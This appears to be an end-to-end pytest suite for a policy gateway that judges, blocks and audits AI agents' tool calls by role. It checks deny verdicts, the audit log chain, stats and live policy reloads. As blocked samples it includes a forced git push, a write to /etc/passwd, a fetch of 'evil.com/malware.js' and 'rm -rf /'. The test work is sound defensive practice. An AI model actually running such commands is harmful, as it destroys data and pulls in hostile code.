"""What people see of the policy gateway: a whole instance, the console script, and plain NATS."""

import json
from pathlib import Path

import nats
import pytest

from tests.e2e.instance import Instance

pytestmark = pytest.mark.timeout(180)


@pytest.fixture(scope="module")
def htdag(tmp_path_factory: pytest.TempPathFactory):
    made = Instance(tmp_path_factory.mktemp("policy") / "home")
    made.up("--only", "policy-gateway")
    yield made
    assert made("down").code == 0


def test_a_call_is_judged_without_being_made(htdag: Instance) -> None:
    said = htdag("policy", "decide", "coder", "git", '{"cmd":["push","--force","origin","main"]}', "--json")
    assert (said.code, said.document["verdict"]) == (4, "deny")
    assert (said.document["code"], said.document["detail"]["matched"]) == ("dangerous_git_operation", "push --force")
    said = htdag("policy", "decide", "coder", "fs", '{"read":"/code/a"}')
    assert (said.code, said.out.split()[:2]) == (0, ["allow", "coder.fs"])
    assert htdag("policy", "decide", "coder", "fs", "{").code == 2
    assert htdag("policy", "decide", "coder", "fs", "{}", "--workspace", "nowhere").code == 3


def test_a_call_is_made_and_found_in_the_audit(htdag: Instance) -> None:
    content = "defmodule Feature do\n  def hello, do: :world\nend\n"
    args = json.dumps({"write": "/code/lib/feature.ex", "content": content})
    assert htdag("policy", "run", "coder", "fs", args, "--json").document["bytes_written"] == len(content)
    assert htdag("policy", "run", "coder", "fs", "-", stdin='{"read":"/code/lib/feature.ex"}').out == content
    assert (htdag.home / "workspaces" / "default" / "code" / "lib" / "feature.ex").read_text() == content
    assert htdag("policy", "run", "coder", "lua", '{"src":"return 6 * 7"}', "--json").out == "42\n"
    said = htdag("policy", "run", "coder", "fs", '{"write":"/etc/passwd","content":"x"}')
    assert (said.code, "forbidden_path" in said.err) == (4, True)
    said = htdag("policy", "run", "admin", "shell", '{"cmd":["sleep","60"]}', "--timeout", "300")
    assert (said.code, "timeout_ms=300" in said.err) == (124, True)
    rows = htdag("policy", "audit", "--json").document
    assert [(row["tool"], row["code"]) for row in rows][-5:] == [
        ("fs", ""),
        ("fs", ""),
        ("lua", ""),
        ("fs", "forbidden_path"),
        ("shell", "timeout"),
    ]
    assert all(row["by"].startswith("operator:") for row in rows)
    assert "forbidden_path" in htdag("policy", "audit", "--verdict", "deny").out
    assert content not in json.dumps(rows)


def test_the_audit_is_counted_and_verified(htdag: Instance) -> None:
    htdag("policy", "run", "researcher", "http", '{"url":"https://evil.com/malware.js"}')
    stats = htdag("policy", "stats", "--since", "7d", "--json").document
    assert set(stats) == {"total_tool_calls", "policy_violations_blocked", "attacks_by_type"}
    assert sum(stats["attacks_by_type"].values()) == stats["policy_violations_blocked"] >= 1
    assert stats["total_tool_calls"] == len(htdag("policy", "audit", "--limit", "1000", "--json").document)
    assert {
        "http_exfiltration", "dangerous_git", "unauthorized_file_write", "shell_injection", "network_backdoor",
    } <= set(stats["attacks_by_type"])  # fmt: skip
    assert "http_exfiltration" in htdag("policy", "stats").out
    verified = htdag("policy", "verify", "--json")
    assert (verified.code, verified.document["entries"] > 0) == (0, True)
    assert htdag("policy", "verify").out.startswith("the chain holds\n")
    log = (htdag.home / "logs" / "policy-gateway.log").read_text()
    assert "tool=http policy=researcher reason=forbidden_url" in log
    assert "[security] Blocked HTTP exfiltration attempt from agent=operator:" in log


def test_a_policy_is_changed_without_a_restart(htdag: Instance, tmp_path: Path) -> None:
    shipped = htdag("policy", "roles", "--json").document
    assert "coder" in htdag("policy", "roles").out
    htdag("policy", "run", "critic", "lua", '{"src":"return 1"}')
    changed = tmp_path / "roles.toml"
    changed.write_text(
        shipped["text"].replace('[roles.critic]\ntools = ["fs", "lua"]', '[roles.critic]\ntools = ["fs"]')
    )
    said = htdag("policy", "diff", "--with", str(changed), "--since", "1h", "--json").document
    assert [(one["role"], one["tool"], one["now_code"]) for one in said["changed"]] == [
        ("critic", "lua", "forbidden_tool")
    ]
    assert "verdicts would change" in htdag("policy", "diff", "--with", str(changed)).out
    assert htdag("policy", "put", str(changed)).out.startswith(f"version {shipped['version'] + 1} is in force")
    assert htdag("policy", "run", "critic", "lua", '{"src":"return 1"}').code == 4
    changed.write_text('[roles.coder]\ntools = ["fs"]\nsurprise = 1\n')
    said = htdag("policy", "put", str(changed))
    assert (said.code, "surprise" in said.err, "line=3" in said.err) == (2, True, True)
    changed.write_text(shipped["text"])
    assert htdag("policy", "put", str(changed)).code == 0
    assert htdag("policy", "run", "critic", "lua", '{"src":"return 1"}').code == 0


async def test_anybody_with_a_nats_client_can_call(htdag: Instance) -> None:
    url = json.loads((htdag.home / "instance.json").read_text())["operator_url"]
    client = await nats.connect(url)
    try:
        body = json.dumps({"args": {"cmd": ["rm", "-rf", "/"]}}).encode()
        reply = json.loads((await client.request("htdag.v1.tool.coder.shell", body, timeout=10)).data)
        assert (reply["ok"], reply["error"]["class"], reply["error"]["code"]) == (
            False, "policy_violation", "forbidden_command",
        )  # fmt: skip
        assert "mix" in reply["error"]["allowed"]
    finally:
        await client.close()


def test_the_doctor_knows_the_gateway(htdag: Instance) -> None:
    checks = {check["name"]: check for check in htdag("doctor", "--json").document["checks"]}
    assert checks["policy-gateway"]["status"] == "ok"
    assert checks["policy"]["status"] == "ok"
    assert checks["audit"]["status"] == "ok"
